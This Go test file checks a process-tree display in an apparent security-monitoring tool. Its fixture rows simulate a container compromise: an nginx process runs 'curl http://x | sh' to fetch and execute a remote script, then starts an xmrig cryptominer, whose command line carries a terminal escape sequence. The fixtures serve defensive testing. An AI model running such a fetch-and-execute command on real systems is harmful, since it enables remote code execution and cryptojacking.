package output

import (
	"fmt"
	"strings"
	"testing"

	"github.com/lynceus-io/lynceus/kql/plan"
	"github.com/lynceus-io/lynceus/kql/value"
)

// treeColumns are those of the rows that treeRow makes.
var treeColumns = []string{"activity", "process.uid", "process.parent_process.uid", "process.parent_process.name", "process.name", "process.cmd_line", "process.pid", "process.user.uid", "exit_code", "exit_signal", "k8s.namespace", "k8s.pod", "container.name", "container.uid", "k8s.node"}

// treeRow makes a row at a second, of texts in the order of treeColumns; those that are left out are empty.
func treeRow(second int, texts ...string) []value.Value {
	row := []value.Value{value.Datetime(int64(second) * 1e7)}
	for i := range treeColumns {
		text := ""
		if i < len(texts) {
			text = texts[i]
		}
		row = append(row, value.String(text))
	}
	return row
}

func treeOf(o TextOptions) *ProcessTree {
	cols := []plan.Column{{Name: "time", Type: value.TypeDatetime}}
	for _, name := range treeColumns {
		cols = append(cols, plan.Column{Name: name, Type: value.TypeString})
	}
	return NewProcessTree(cols, o)
}

// treeRows is a story in a container, beside one on the node.
func treeRows() [][]value.Value {
	pod := []string{"shop", "web-1", "app", strings.Repeat("c", 64), "n1"}
	in := func(texts ...string) []string {
		for len(texts) < 10 {
			texts = append(texts, "")
		}
		return append(texts[:10:10], pod...)
	}
	node := func(texts ...string) []string {
		for len(texts) < 14 {
			texts = append(texts, "")
		}
		return append(texts, "n1")
	}
	return [][]value.Value{
		treeRow(1, in("Running", "a", "x", "containerd-shim", "nginx", "nginx -g daemon off;", "10", "0")...),
		treeRow(2, in("Launch", "b", "a", "nginx", "sh", "sh -c id; curl http://x | sh", "11", "33")...),
		treeRow(2, in("Launch", "c", "b", "sh", "id", "id", "12", "33")...),
		treeRow(2, in("Terminate", "c", "b", "sh", "id", "id", "12", "33", "0")...),
		treeRow(3, in("Launch", "d", "b", "sh", "curl", "curl http://x", "13", "33")...),
		treeRow(3, node("Launch", "n", "m", "systemd", "apt", "apt update", "900", "0")...),
		treeRow(4, in("Launch", "e", "b", "sh", "sh", "sh", "14", "33")...),
		treeRow(4, in("Launch", "e", "b", "sh", "xmrig", "xmrig \x1b[2J", "14", "33")...),
		treeRow(5, in("Terminate", "e", "b", "sh", "xmrig", "xmrig", "14", "33", "", "9")...),
		treeRow(5, in("Terminate", "d", "b", "sh", "curl", "curl http://x", "13", "33", "6")...),
		treeRow(6, "Launch", "z", "y", "", "", "", "77", "", "", "", "", "", "", strings.Repeat("d", 64)),
	}
}

func TestProcessTree(t *testing.T) {
	for name, o := range map[string]TextOptions{"process_tree.txt": {}, "process_tree_color.txt": {Color: true}, "process_tree_narrow.txt": {Width: 30}} {
		tree := treeOf(o)
		var b strings.Builder
		for _, row := range treeRows() {
			for _, line := range tree.Lines(row) {
				fmt.Fprintln(&b, line)
			}
		}
		golden(t, name, []byte(b.String()))
	}
}

// However many processes come, and however deep they are, memory and lines are bounded.
func TestProcessTreeIsBounded(t *testing.T) {
	tree := treeOf(TextOptions{})
	for i := range 3 * maxTree {
		lines := tree.Lines(treeRow(i, "Launch", fmt.Sprint(i), fmt.Sprint(i-1), "sh", "sh", "sh", "1"))
		if len(tree.known) > maxTree || len(lines) > 3 || len(lines[len(lines)-1]) > 100 {
			t.Fatalf("%d known, %q", len(tree.known), lines)
		}
	}
}
